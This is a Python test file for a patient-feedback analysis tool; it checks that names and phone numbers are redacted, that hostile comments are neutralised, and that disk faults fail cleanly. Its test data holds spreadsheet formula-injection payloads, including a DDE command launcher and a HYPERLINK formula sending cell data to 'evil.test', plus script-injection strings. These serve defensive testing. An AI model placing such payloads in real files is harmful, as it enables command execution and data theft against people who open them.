"""Issue 12, bad-input corpus (outputs part): nothing leaked, nothing injected, no raw tracebacks on faults.

Every case drives the real command line in-process (``pledge_analysis.cli.main``) on the small
user-like project of ``tests/userlike.py`` with one hostile change, and asserts the exit code,
the class of the error the CLI reported (PledgeError subclasses only), that the message names
the file, that stderr holds no traceback (unless ``--debug``), and for leaks and injection that
the bad string is in no output file of the run (every file in --out, xlsx/docx/qdpx members
unzipped, and the project store).

How faults are produced here (the tests run as root, where ``chmod 555`` does not stop writes):

- a read-only output folder: ``os.open`` / ``open`` patched in-process to raise ``PermissionError``
  (EACCES) for any file created in that folder, as the kernel does for a 555 folder;
- a full disk while writing an output: ``open`` patched so that writes to one output raise
  ``OSError(ENOSPC)`` after a few bytes (a half-written file), and a real file-size limit
  (``RLIMIT_FSIZE``, with SIGXFSZ ignored) that makes the kernel refuse the write with EFBIG;
- a full disk while writing the store: SQLite's own ``PRAGMA max_page_count``, which fails the
  update with the genuine SQLITE_FULL "database or disk is full";
- a locked store: a second connection holding ``BEGIN EXCLUSIVE``.
"""
from __future__ import annotations

import builtins
import csv
import errno
import html
import io
import json
import os
import re
import resource
import signal
import sqlite3
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest

from userlike import edit, write_project
import pledge_analysis.cli as cli_module
from pledge_analysis.cli import main
from pledge_analysis.errors import InputError, PledgeError, ProjectStoreError

HEADER = ["Ref", "Trust site", "Cohort", "Staff listened to me", "Overall rating (0-10)", "What went well",
          "What could be better"]
TRANSCRIPT = "groups/hillside_primary.txt"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


# ------------------------------------------------------------------------------------------ helpers
def row(ref: str, **cells) -> list[str]:
    """One survey row of the user-like export; keyword names are the column names with _ for spaces."""
    values = {"Ref": ref, "Trust site": "Hillside Hospital", "Cohort": "Early breast cancer",
              "Staff listened to me": "Agree", "Overall rating (0-10)": "7", "What went well": "Staff were kind.",
              "What could be better": "I waited six weeks for my scan results."}
    for k, v in cells.items():
        values[next(h for h in HEADER if k in re.sub(r"\W+", "_", h).strip("_").lower())] = v
    return [values[h] for h in HEADER]


def make_project(tmp_path: Path, rows=(), transcript: str | None = None, n: int = 24) -> Path:
    project = write_project(tmp_path / "p", n=n)
    if rows:
        export = project / "exports" / "feedback_2027.csv"
        buf = io.StringIO()
        csv.writer(buf).writerows(rows)
        text = export.read_bytes().decode("cp1252") + buf.getvalue()
        try:
            export.write_bytes(text.encode("cp1252"))
        except UnicodeEncodeError:
            export.write_bytes(text.encode("utf-8"))
    if transcript is not None:
        (project / TRANSCRIPT).write_text(transcript, encoding="utf-8")
    return project


@dataclass
class Ran:
    code: int
    out: str
    err: str
    exc: BaseException | None


@pytest.fixture()
def cli(monkeypatch, capsys):
    """``cli("run", project, "--out", out)``: the real CLI in-process, with the error it reported."""
    seen: list[BaseException] = []
    real = getattr(cli_module, "_error_exit", None)

    def spy(exc, *args, **kwargs):
        seen.append(exc)
        return real(exc, *args, **kwargs)

    if real is not None:
        monkeypatch.setattr(cli_module, "_error_exit", spy)

    def call(*args) -> Ran:
        seen.clear()
        capsys.readouterr()
        code = main([str(a) for a in args])
        cap = capsys.readouterr()
        return Ran(code, cap.out, cap.err, seen[-1] if seen else None)

    return call


@pytest.fixture(scope="module")
def ran_once(tmp_path_factory):
    """The user-like project run once (store in the project, exports in ``out``); read-only for tests."""
    import contextlib

    root = tmp_path_factory.mktemp("ran_once")
    project = make_project(root)
    # 24 respondents: under the default rule (n < 21) every cell would be suppressed and the
    # exports would hold no survey numbers to check; 5 keeps most cells shown
    with open(project / "project.yaml", "a", encoding="utf-8") as f:
        f.write("suppress_below: 5\n")
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
        assert main(["run", str(project), "--out", str(root / "out"), "--quiet"]) == 0
    return project, root / "out"


@pytest.fixture()
def ran(tmp_path, ran_once):
    """A copy of :func:`ran_once` (project with its store, and the exports) that a test may change."""
    import shutil

    project, out = ran_once
    shutil.copytree(project, tmp_path / "p")
    shutil.copytree(out, tmp_path / "out")
    return tmp_path / "p", tmp_path / "out"


def run_ok(cli, project: Path, out: Path, *extra) -> Ran:
    r = cli("run", project, "--out", out, "--quiet", *extra)
    assert r.code == 0, r.err
    return r


def assert_clean_failure(r: Ran, code: int, cls: type, *names: str) -> None:
    """Exit code, a PledgeError subclass, the file named, no traceback."""
    assert r.code == code, (r.code, r.err)
    assert r.err.startswith("error: "), r.err
    assert "Traceback" not in r.err, r.err
    assert isinstance(r.exc, cls) and type(r.exc) is not PledgeError, repr(r.exc)
    for name in names:
        assert name in r.err, (name, r.err)


def _strip_plotly(text: str) -> str:
    # the plotly.js library embedded in report.html is not our output (it holds e.g. a Mayan month "Chen")
    # one <script> block at a time: a pattern spanning blocks would also drop the tables between them
    return re.sub(r"<script[^>]*>.*?</script>", lambda m: "" if len(m.group(0)) > 100_000 else m.group(0), text, flags=re.S)


def written(out: Path, store: Path | None = None, *, unescape: bool = True) -> dict[str, str]:
    """Every text a run wrote: each file of ``out`` (zip members separately) and the store (SQL dump and bytes)."""
    texts = {}
    for f in sorted(p for p in out.rglob("*") if p.is_file()):
        if zipfile.is_zipfile(f):
            with zipfile.ZipFile(f) as z:
                for m in z.namelist():
                    t = z.read(m).decode("utf-8", "replace")
                    texts[f"{f.name}/{m}"] = html.unescape(t) if unescape else t
        else:
            t = f.read_bytes().decode("utf-8", "replace")
            texts[f.name] = _strip_plotly(t) if f.suffix == ".html" else t
    if store is not None:
        con = sqlite3.connect(store)
        texts[store.name + " (SQL)"] = "\n".join(con.iterdump())
        con.close()
        for f in store.parent.glob(store.name + "*"):
            texts[f.name + " (bytes)"] = f.read_bytes().decode("utf-8", "replace")
    return texts


def leaks(bad: list[str], out: Path, store: Path | None) -> list[tuple[str, str]]:
    texts = written(out, store)
    return [(b, name) for b in bad for name, t in texts.items() if b in t]


def live_cells(out: Path) -> list[tuple[str, str, str]]:
    """Spreadsheet cells in ``out`` that a spreadsheet would run: (file, where, value)."""
    from openpyxl import load_workbook

    found = []
    for f in sorted(out.glob("*.csv")):
        with open(f, newline="", encoding="utf-8") as fh:
            for r, rec in enumerate(csv.reader(fh)):
                for c, v in enumerate(rec):
                    if v[:1] in TRIGGERS and not NUMBER.fullmatch(v):
                        found.append((f.name, f"row {r} col {c}", v[:40]))
    for f in sorted(out.glob("*.xlsx")):
        with zipfile.ZipFile(f) as z:
            for m in z.namelist():
                if m.startswith("xl/worksheets/") and re.search(rb"<(?:\w+:)?f[ >]", z.read(m)):
                    found.append((f.name, m, "<f> formula element"))
        for ws in load_workbook(f).worksheets:
            for cells in ws.iter_rows():
                for cell in cells:
                    v = cell.value
                    if cell.data_type == "f" or (isinstance(v, str) and v[:1] in TRIGGERS and not NUMBER.fullmatch(v)):
                        found.append((f.name, f"{ws.title}!{cell.coordinate}", str(v)[:40]))
    return found


def leftovers(out: Path) -> list[str]:
    """Temporary or empty files left in an output folder."""
    return sorted(p.name for p in out.iterdir() if p.name.startswith(".") or ".tmp" in p.name
                  or (p.is_file() and p.stat().st_size == 0))


# ================================================================================== 1. leaks
SET_ASIDE_LEAKS = [
    pytest.param({"staff_listened": "ring me 07700 900461 NHS 943 476 5919"},
                 ["07700 900461", "943 476 5919", "9434765919"], {"PHONE", "NHS_NUMBER"},
                 id="set_aside-option-answer-phone-and-nhs-number"),
    pytest.param({"overall": "call Sister Jane Okafor on 07700 900982 or jo.bloggs@example.com"},
                 ["Okafor", "07700 900982", "jo.bloggs@example.com"], {"PERSON", "PHONE", "EMAIL"},
                 id="set_aside-rating-answer-name-phone-email"),
]


@pytest.mark.parametrize("cells,bad,labels", SET_ASIDE_LEAKS)
def test_set_aside_values_are_deidentified_everywhere(tmp_path, cli, cells, bad, labels):
    project = make_project(tmp_path, rows=[row("X901", **cells)])
    run_ok(cli, project, tmp_path / "out")
    assert leaks(bad, tmp_path / "out", project / "project.sqlite") == []
    aside = pd.read_csv(tmp_path / "out" / "set_aside.csv")
    mine = aside[aside["row"] == aside["row"].max()]
    assert len(mine) == 1 and "[" in mine["value"].item()  # a placeholder stands where the identifier was
    review = pd.read_csv(tmp_path / "out" / "redactions.csv")
    assert set(review.loc[review["table"] == "set_aside", "label"]) == labels  # counted in the review table


NAMED = """\
Facilitator: What stood out for you?
Margaret Okafor: Honestly the wait. I waited weeks and nobody rang.
Tomasz Kowalczyk: The leaflet explained nothing about what happens after.
Facilitator: Anything else?
Margaret Okafor: Mr Pemberton listened to me, which helped.
Tomasz Kowalczyk: Same for me, I agree with Margaret about the wait. Okafor's point is right.
"""
SPEAKER_CASES = [
    pytest.param(NAMED, ["Margaret", "Okafor", "Tomasz", "Kowalczyk"],
                 ["Facilitator", "Participant 1", "Participant 2"], id="speaker-full-names-and-mentions"),
    pytest.param("Interviewer: How was it?\nMargaret: The wait was long.\nGrace: The leaflet explained nothing.\n"
                 "Margaret: Listened to, in the end.\n", ["Margaret", "Grace:"],
                 ["Interviewer", "Participant 1", "Participant 2"], id="speaker-first-names-incl-common-word"),
    pytest.param("Facilitator: Hello.\nParticipant 1: I waited weeks.\nMargaret Okafor: Nobody listened.\n"
                 "Participant 1: The leaflet helped.\n", ["Margaret", "Okafor"],
                 ["Facilitator", "Participant 1", "Participant 2"], id="speaker-numbering-skips-kept-labels"),
    pytest.param("Facilitator: Hello.\nMargaret Okafor:\nP1: I waited weeks for the scan.\n"
                 "Margaret Okafor: Nobody listened.\n", ["Margaret", "Okafor"],
                 ["Facilitator", "P1", "Participant 1"], id="speaker-with-an-empty-turn-set-aside"),
    pytest.param("Interviewer Jane Smith: How was the wait?\nMargaret: Long, I waited weeks.\n"
                 "Margaret: Jane Smith listened though.\n", ["Jane", "Smith", "Margaret"],
                 ["Interviewer", "Participant 1"], id="speaker-named-facilitator-keeps-its-role"),
    pytest.param("Facilitator: Hello.\nP1: I waited weeks.\nParticipant 3: Nobody listened.\nSpeaker 2: The leaflet "
                 "helped.\nInterviewer: Thank you.\n", [],
                 ["Facilitator", "P1", "Participant 3", "Speaker 2", "Interviewer"], id="speaker-anonymous-labels-kept"),
]


@pytest.mark.parametrize("transcript,bad,speakers", SPEAKER_CASES)
def test_speaker_labels_are_pseudonymised(tmp_path, cli, transcript, bad, speakers):
    project = make_project(tmp_path, transcript=transcript)
    run_ok(cli, project, tmp_path / "out")
    assert leaks(bad, tmp_path / "out", project / "project.sqlite") == []
    segs = pd.read_csv(tmp_path / "out" / "segments.csv")
    turns = segs[segs["source_id"] == TRANSCRIPT]
    assert list(dict.fromkeys(turns["speaker"])) == [s for s in speakers if s in set(turns["speaker"])]
    part = turns[turns["role"] == "participant"]
    assert (part["respondent_id"] == TRANSCRIPT + ":" + part["speaker"]).all()  # the same mapping
    quotes = pd.read_excel(tmp_path / "out" / "quotes.xlsx")
    assert set(quotes["speaker"].dropna()) <= set(speakers)
    if "Okafor's" in transcript:  # a name mentioned in a turn becomes that speaker's pseudonym
        assert turns["text"].str.contains("I agree with Participant 1 about the wait. Participant 1's point",
                                          regex=False).any()


def test_vtt_voice_names_are_pseudonymised(tmp_path, cli):
    project = make_project(tmp_path)
    (project / "groups" / "call.vtt").write_text(
        "WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v Facilitator>What stood out?\n\n"
        "00:00:05.000 --> 00:00:09.000\n<v Margaret Okafor>I waited weeks for my results.\n\n"
        "00:00:10.000 --> 00:00:14.000\n<v Tomasz Kowalczyk>Margaret is right, nobody listened.\n", encoding="utf-8")
    edit(project / "project.yaml", "  - {path: groups/hillside_primary.txt, site: HSH, group: primary}",
         "  - {path: groups/hillside_primary.txt, site: HSH, group: primary}\n"
         "  - {path: groups/call.vtt, site: LWC, group: secondary}")
    run_ok(cli, project, tmp_path / "out")
    assert leaks(["Margaret", "Okafor", "Tomasz", "Kowalczyk"], tmp_path / "out", project / "project.sqlite") == []
    segs = pd.read_csv(tmp_path / "out" / "segments.csv")
    assert list(segs.loc[segs["source_id"] == "groups/call.vtt", "speaker"]) == \
        ["Facilitator", "Participant 1", "Participant 2"]


def test_free_text_attributes_are_deidentified_everywhere(tmp_path):
    """Free-text respondent attributes: a ``role`` column (kept in the store and the .qdpx cases) and one
    declared under ``attributes:`` (kept in the run's respondents table) are redacted like the comments."""
    from pledge_analysis.pipeline import run_project, write_outputs

    project = make_project(tmp_path)
    export = project / "exports" / "feedback_2027.csv"
    lines = export.read_bytes().decode("cp1252").splitlines()
    roles = ["Nurse", "Deputy to Sister Jane Pemberton, bleep 07700 900461", "Volunteer"]
    carers = ["Lives alone", "Carer: Margaret Okafor 07700 900982", "Daughter"]
    rows = [lines[0] + ",Job title,Support at home"] + [f'{ln},"{roles[i % 3]}","{carers[i % 3]}"'
                                                         for i, ln in enumerate(lines[1:])]
    export.write_bytes(("\r\n".join(rows) + "\r\n").encode("cp1252"))
    edit(project / "project.yaml", "      group: Cohort\n",
         "      group: Cohort\n      role: Job title\n      attributes: {support: Support at home}\n")
    result = run_project(project, store=True)
    write_outputs(result, tmp_path / "out")
    bad = ["Pemberton", "07700 900461", "Okafor", "07700 900982"]
    assert leaks(bad, tmp_path / "out", project / "project.sqlite") == []
    people = result.respondents.astype(str).to_string()
    assert [b for b in bad if b in people] == []
    assert {"Nurse", "Volunteer"} <= set(result.respondents["role"]) and "Daughter" in set(result.respondents["support"])
    review = pd.read_csv(tmp_path / "out" / "redactions.csv")
    assert set(review.loc[review["table"] == "respondents", "label"]) == {"PERSON", "PHONE"}


def test_names_in_file_names_are_deidentified_everywhere(tmp_path, cli):
    """A transcript named after its participant: the name must not become a source id in any output."""
    project = make_project(tmp_path)
    for who in ("Margaret_Okafor", "Tomasz_Kowalczyk"):
        (project / "groups" / f"focus_group_{who}.vtt").write_text(
            "WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v Facilitator>What stood out?\n\n"
            "00:00:05.000 --> 00:00:09.000\n<v P1>I waited weeks for my results.\n", encoding="utf-8")
    edit(project / "project.yaml", "  - {path: groups/hillside_primary.txt, site: HSH, group: primary}",
         "  - {path: groups/hillside_primary.txt, site: HSH, group: primary}\n"
         "  - {path: groups/focus_group_Margaret_Okafor.vtt, site: LWC, group: secondary}\n"
         "  - {path: groups/focus_group_Tomasz_Kowalczyk.vtt, site: LWC, group: secondary}")
    run_ok(cli, project, tmp_path / "out")
    assert leaks(["Okafor", "Kowalczyk", "Margaret", "Tomasz"], tmp_path / "out", project / "project.sqlite") == []
    segs = pd.read_csv(tmp_path / "out" / "segments.csv")
    renamed = sorted(set(segs["source_id"]) - {TRANSCRIPT, "exports/feedback_2027.csv"})
    assert renamed == ["groups/focus_group_[PERSON_1].vtt", "groups/focus_group_[PERSON_2].vtt"]  # one per name
    log = json.loads((tmp_path / "out" / "run_log.json").read_text(encoding="utf-8"))
    assert log["source_ids_deidentified"] == 2  # the mapping itself is kept nowhere: a count only


# ================================================================================== 2. injection
PAYLOADS = [
    pytest.param("=1+2 I waited six weeks for my scan.", id="equals"),
    pytest.param("+1+2 I waited six weeks for my scan.", id="plus"),
    pytest.param("-2+3 I waited six weeks for my scan.", id="minus"),
    pytest.param("@SUM(1+1) I waited six weeks for my scan.", id="at"),
    pytest.param("=cmd|' /C calc'!A0 I waited six weeks for my scan.", id="dde-cmd"),
    pytest.param('=HYPERLINK("http://evil.test/?"&A1,"I waited, click") waited', id="hyperlink"),
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_comments_are_neutralised_in_every_spreadsheet(tmp_path, cli, payload):
    project = make_project(tmp_path, rows=[row(f"X{i:03d}", could_be=payload) for i in range(8)])
    run_ok(cli, project, tmp_path / "out")
    assert live_cells(tmp_path / "out") == []
    quotes = pd.read_excel(tmp_path / "out" / "quotes.xlsx")
    assert quotes["quote"].str.startswith("'" + payload[:3]).any()  # there, as text with the protective quote


def test_formula_code_names_and_respondent_ids_are_neutralised(tmp_path, cli):
    project = make_project(tmp_path, rows=[row("=X1+1"), row("-X2"), row("@X3")])
    edit(project / "codebook.yaml", "name: Waiting times", "name: '=1+2 Waiting times'")
    edit(project / "codebook.yaml", "name: Information", "name: '@Information'")
    run_ok(cli, project, tmp_path / "out")
    assert live_cells(tmp_path / "out") == []
    assert "'=1+2 Waiting times" in set(pd.read_csv(tmp_path / "out" / "themes.csv")["name"])
    assert "'=X1+1" in set(pd.read_csv(tmp_path / "out" / "segments.csv")["respondent_id"])


def test_negative_numbers_stay_numbers(ran_once):
    from openpyxl import load_workbook

    _project, out = ran_once
    for name, column in (("survey_scores.csv", "gap"), ("cross_site.csv", "survey_z")):
        values = pd.read_csv(out / name)[column]
        assert values.dtype.kind == "f" and (values < 0).any(), name  # negative numbers, read back as numbers
        assert re.search(r",-\d", (out / name).read_text()), name  # written bare, not quoted
    pri = pd.read_csv(out / "priorities.csv")
    assert all(pri[c].dtype.kind in "fi" for c in ("rank", "priority_score"))
    ws = load_workbook(out / "codings.xlsx").active
    header = [c.value for c in ws[1]]
    cells = [ws.cell(row=2, column=header.index(c) + 1) for c in ("confidence", "start", "end")]
    assert [c.data_type for c in cells] == ["n", "n", "n"]


SCRIPT = "<script>alert(1)</script>"


def test_script_in_a_comment_is_escaped_in_html_markdown_and_office_files(tmp_path, cli):
    project = make_project(tmp_path, rows=[row(f"X{i:03d}", could_be=f"{SCRIPT} I waited six weeks, awful, terrible, the worst.",
                                               went_well=f"{SCRIPT} The nurse listened.") for i in range(20)], n=4)
    run_ok(cli, project, tmp_path / "out")
    raw = written(tmp_path / "out", unescape=False)
    plan_md = raw["action_plan.md"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in plan_md  # it reached the plan, escaped
    # CSV files and the plain-text source documents inside project.qdpx are data, not markup: there the
    # comment is kept as written; in every HTML, Markdown and XML (xlsx, docx, qde, qdc) output it is escaped
    assert [name for name, t in raw.items() if SCRIPT in t and not name.endswith((".csv", ".txt"))] == []
    assert "&lt;script&gt;" in raw["report.html"]


def test_plan_editor_shows_user_text_as_text():
    from pledge_analysis.widgets import PlanEditor

    hostile = "<img src=x onerror=alert(1)> I waited"
    plan = pd.DataFrame([{"goal_id": "<b>G01</b>", "scope": "all", "theme": "waiting", "you_said": hostile,
                          "we_plan_to": "", "by": "", "owner": "", "status": "not started", "evidence": ""}])
    plan["quotes"] = f"“{hostile}” (primary, NGU)"
    editor = PlanEditor(plan)
    editor.commit()
    assert editor.you_said.value == hostile and type(editor.you_said).__name__ == "Textarea"  # edited as plain text
    assert "<img" not in editor.evidence.value and "&lt;img src=x" in editor.evidence.value  # quotes shown as text
    assert "<b>G01" not in editor.message.value


@pytest.mark.parametrize("text,cells", [
    pytest.param("A | B | C", 8, id="pipes"),
    pytest.param("`rm -rf` and ``x``", 8, id="backticks"),
    pytest.param("# Heading\n- item\n> quote", 8, id="leading-markdown"),
    pytest.param("[click](http://evil.test) & <b>bold</b>", 8, id="link-and-html"),
])
def test_plan_markdown_escapes_user_text(text, cells):
    from pledge_analysis.pledge import plan_markdown

    plan = pd.DataFrame([{"goal_id": "G01", "scope": "all", "theme": "waiting", "you_said": text,
                          "we_plan_to": text, "by": "", "owner": "", "status": "not started", "evidence": text}])
    md = plan_markdown(plan)
    line = md.splitlines()[2]
    assert len(md.splitlines()) == 3  # one table row, however many newlines the text had
    assert len(re.findall(r"(?<!\\)\|", line)) == cells + 1
    assert "<" not in line and "`" not in line.replace("\\`", "")
    assert not re.search(r"\|\s*[#>-]", line)
    assert "[click](" not in line


@pytest.mark.parametrize("value,expected", [
    pytest.param("=1+2", "'=1+2", id="u-equals"), pytest.param("+1", "+1", id="u-plus-number"),
    pytest.param("+A1", "'+A1", id="u-plus"), pytest.param("-2+3", "'-2+3", id="u-minus-formula"),
    pytest.param("-1.5", "-1.5", id="u-negative-number-text"), pytest.param("@SUM(A1)", "'@SUM(A1)", id="u-at"),
    pytest.param("\t=1+2", "'\t=1+2", id="u-tab"), pytest.param("\r=1+2", "'\r=1+2", id="u-cr"),
    pytest.param("'=1", "''=1", id="u-already-quoted"), pytest.param("'tis fine", "'tis fine", id="u-apostrophe"),
    pytest.param(-3, -3, id="u-negative-int"), pytest.param(-2.5, -2.5, id="u-negative-float"),
    pytest.param(None, None, id="u-none"), pytest.param("Lovely staff", "Lovely staff", id="u-plain"),
])
def test_neutralise_and_its_inverse(value, expected):
    from pledge_analysis.io.safe import neutralise, unneutralise

    assert neutralise(value) == expected
    assert unneutralise(neutralise(value)) == value  # lossless round trip


def test_safe_writers_neutralise_csv_and_write_xlsx_cells_as_text(tmp_path):
    from openpyxl import load_workbook

    from pledge_analysis.io.safe import safe_to_csv, safe_to_excel

    df = pd.DataFrame({"text": ["=1+2", "\t=1+2", "\r=1+2", "-1.5", "ok", None], "n": [-1, 2, 3, 4, 5, 6],
                       "=head": ["a", "b", "c", "d", "e", "f"]})
    safe_to_csv(df, tmp_path / "a.csv")
    safe_to_excel(df, tmp_path / "a.xlsx", sheet_name="S")
    assert live_cells(tmp_path) == []
    back = pd.read_csv(tmp_path / "a.csv", keep_default_na=False)
    assert back["text"].tolist()[:5] == ["'=1+2", "'\t=1+2", "'\r=1+2", "-1.5", "ok"] and back["n"].tolist()[0] == -1
    ws = load_workbook(tmp_path / "a.xlsx")["S"]
    assert ws["A2"].value == "'=1+2" and ws["A2"].data_type == "s" and ws["B2"].value == -1
    assert ws["B2"].data_type == "n" and ws["C1"].value == "'=head"


def test_xlsx_over_the_sheet_row_limit_is_split_not_truncated(tmp_path, caplog):
    """Excel holds 1,048,576 rows a sheet: a longer table goes over several sheets, each with the header,
    with a warning (``max_rows`` stands in for the real limit here); an over-long text is cut, visibly."""
    from pledge_analysis.io.safe import CUT_MARK, EXCEL_MAX_CHARS, safe_to_excel

    df = pd.DataFrame({"segment_id": [f"s{i}" for i in range(7)], "n": range(7),
                       "text": ["=1+2", "x" * (EXCEL_MAX_CHARS + 10)] + ["ok"] * 5})
    with caplog.at_level("WARNING"):
        names = safe_to_excel(df, tmp_path / "big.xlsx", sheet_name="Codings", max_rows=4)
    assert names == ["Codings", "Codings (2)", "Codings (3)"]
    assert "7 rows are more than one worksheet holds" in caplog.text and "cut" in caplog.text
    sheets = pd.read_excel(tmp_path / "big.xlsx", sheet_name=None)
    assert list(sheets) == names and [len(t) for t in sheets.values()] == [3, 3, 1]
    back = pd.concat(sheets.values(), ignore_index=True)
    assert back["segment_id"].tolist() == df["segment_id"].tolist() and back["n"].tolist() == list(range(7))
    assert back["text"][0] == "'=1+2" and len(back["text"][1]) == EXCEL_MAX_CHARS
    assert back["text"][1].endswith(CUT_MARK)
    assert live_cells(tmp_path) == []


def test_action_plan_workbook_round_trip_is_lossless(tmp_path, cli, ran):
    from openpyxl import load_workbook

    from pledge_analysis.pledge import read_action_plan_xlsx
    from pledge_analysis.project import Project

    project, _out = ran
    store = project / "project.sqlite"
    hostile = ["=SUM(A1:A3) then call", "'=quoted before", "- a dash first", "@everyone"]
    with Project.open(store) as p:
        plan = p.action_plan()
        plan.loc[:3, "we_plan_to"] = hostile
        p.save_action_plan(plan, actor="tester")
    run_ok(cli, project, tmp_path / "out2")  # store -> workbook
    book = tmp_path / "out2" / "action_plan.xlsx"
    assert live_cells(tmp_path / "out2") == []
    plan, _ = read_action_plan_xlsx(book)
    assert plan["we_plan_to"].tolist()[:4] == hostile  # the protective quote is taken off on reading
    r = cli("import-plan", project, book)  # workbook -> store, unchanged
    assert r.code == 0 and r.out.startswith("0 change(s)"), r.out + r.err
    # cells typed in Excel as text (Excel keeps a typed '=... as text "=..." with a quote-prefix style)
    wb = load_workbook(book)
    ws = wb.active
    col = [c.value for c in ws[1]].index("We plan to") + 1
    ws.cell(row=2, column=col).value = "=1+1 typed in Excel"
    ws.cell(row=2, column=col).data_type = "s"
    wb.save(book)
    r = cli("import-plan", project, book)
    assert r.code == 0, r.err
    with Project.open(store) as p:
        assert p.action_plan()["we_plan_to"].tolist()[:4] == ["=1+1 typed in Excel"] + hostile[1:]


def test_control_characters_in_a_comment_do_not_break_office_files(tmp_path, cli):
    project = make_project(tmp_path, rows=[row(f"X{i:03d}", could_be="I waited\x0b six weeks\x07 for my scan.")
                                           for i in range(6)])
    run_ok(cli, project, tmp_path / "out")
    quotes = pd.read_excel(tmp_path / "out" / "quotes.xlsx")
    assert quotes["quote"].str.contains("six weeks", regex=False).any()


# ================================================================================== 3. faults
@pytest.fixture()
def project(tmp_path):
    return make_project(tmp_path)


def test_out_is_an_existing_file(tmp_path, cli, project):
    (tmp_path / "afile").write_text("x")
    r = cli("run", project, "--out", tmp_path / "afile", "--quiet")
    assert_clean_failure(r, 2, PledgeError, "afile")
    assert (tmp_path / "afile").read_text() == "x"


def test_out_below_an_existing_file(tmp_path, cli, project):
    (tmp_path / "afile").write_text("x")
    r = cli("run", project, "--out", tmp_path / "afile" / "sub", "--quiet")
    assert_clean_failure(r, 2, PledgeError, "afile")


def deny_writes(monkeypatch, folder: Path, make_error) -> None:
    """Creating or replacing any file inside ``folder`` raises ``make_error(path)`` (as a 555 folder does)."""
    folder = Path(folder).resolve()
    real_open, real_os_open, real_replace = builtins.open, os.open, os.replace

    def inside(p) -> bool:
        try:
            return Path(os.fsdecode(p)).resolve().parent == folder
        except TypeError:
            return False

    def fake_open(file, mode="r", *a, **k):
        if isinstance(file, (str, bytes, os.PathLike)) and inside(file) and any(c in mode for c in "wax+"):
            raise make_error(os.fsdecode(file))
        return real_open(file, mode, *a, **k)

    def fake_os_open(path, flags, *a, **k):
        if inside(path) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            raise make_error(os.fsdecode(path))
        return real_os_open(path, flags, *a, **k)

    def fake_replace(src, dst, *a, **k):
        if inside(dst):
            raise make_error(os.fsdecode(dst))
        return real_replace(src, dst, *a, **k)

    monkeypatch.setattr(builtins, "open", fake_open)
    monkeypatch.setattr(io, "open", fake_open)
    monkeypatch.setattr(os, "open", fake_os_open)
    monkeypatch.setattr(os, "replace", fake_replace)


def permission_denied(path):
    return PermissionError(errno.EACCES, "Permission denied", path)


@pytest.mark.parametrize("previous", [False, True], ids=["read-only-out-empty", "read-only-out-with-earlier-run"])
def test_read_only_output_folder(tmp_path, cli, ran, monkeypatch, previous):
    project, out = ran
    if not previous:
        out = tmp_path / "empty"
        out.mkdir()
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    with monkeypatch.context() as m:
        deny_writes(m, out, permission_denied)
        r = cli("run", project, "--out", out, "--quiet")
    assert_clean_failure(r, 2, OSError, str(out))
    assert "ermission" in r.err and "--out" in r.err  # what went wrong and what to do
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == before  # nothing half-written, nothing lost


class _FillsUp:
    """A file that takes ``room`` bytes, then fails like a full disk (once: later writes are dropped)."""

    def __init__(self, fh, room: int):
        self._fh, self._room = fh, room

    def write(self, data):
        if self._room is None:  # after the failure: a writer cleaning up later (e.g. on garbage collection)
            return len(data)
        if len(data) > self._room:
            self._fh.write(data[:self._room])
            self._fh.flush()
            self._room = None
            raise OSError(errno.ENOSPC, "No space left on device", self._fh.name)
        self._room -= len(data)
        return self._fh.write(data)

    def __getattr__(self, name):
        return getattr(self._fh, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self._fh.close()

    def __iter__(self):
        return iter(self._fh)


@pytest.mark.parametrize("target", ["segments.csv", "report.html", "quotes.xlsx", "action_plan.docx",
                                    "project.qdpx", "run_log.json"], ids=lambda t: f"disk-full-writing-{t}")
def test_disk_full_while_writing_an_output(tmp_path, cli, ran, monkeypatch, target):
    project, out = ran
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    real_open = builtins.open

    def fake_open(file, mode="r", *a, **k):
        fh = real_open(file, mode, *a, **k)
        name = os.path.basename(os.fsdecode(file)) if isinstance(file, (str, bytes, os.PathLike)) else ""
        if target in name and "w" in mode:
            return _FillsUp(fh, 100)
        return fh

    with monkeypatch.context() as m:
        m.setattr(builtins, "open", fake_open)
        m.setattr(io, "open", fake_open)
        r = cli("run", project, "--out", out, "--quiet")
    assert_clean_failure(r, 2, OSError, target)
    assert "space" in r.err.lower()
    assert leftovers(out) == []
    assert (out / target).read_bytes() == before[target]  # the earlier complete file, not a half-written one


def test_run_killed_while_writing_leaves_no_half_file_and_the_next_run_cleans_up(tmp_path, cli, ran):
    project, out = ran
    before = (out / "segments.csv").read_bytes()
    # what a `kill -9` during the write of segments.csv leaves: the complete old file and a partial temporary
    dead = 2 ** 22 + 12345  # above pid_max on this machine: no such process
    stale = out / f".segments.csv.{dead}-0123abcd.tmp.csv"
    stale.write_bytes(before[:50])
    assert (out / "segments.csv").read_bytes() == before
    run_ok(cli, project, out)
    assert leftovers(out) == []


def test_file_size_limit_while_writing_the_report(tmp_path, cli, project):
    """A real refusal by the kernel: RLIMIT_FSIZE 1 MB (report.html is ~5 MB), SIGXFSZ ignored -> EFBIG."""
    out = tmp_path / "out"
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    old = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (1_000_000, hard))
    try:
        r = cli("run", project, "--out", out, "--quiet")
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, old)
    assert_clean_failure(r, 2, OSError, "report.html")
    assert leftovers(out) == [] and not (out / "report.html").exists()


def store_dump(store: Path) -> list[str]:
    con = sqlite3.connect(store)
    try:
        assert con.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        return [line for line in con.iterdump()]
    finally:
        con.close()


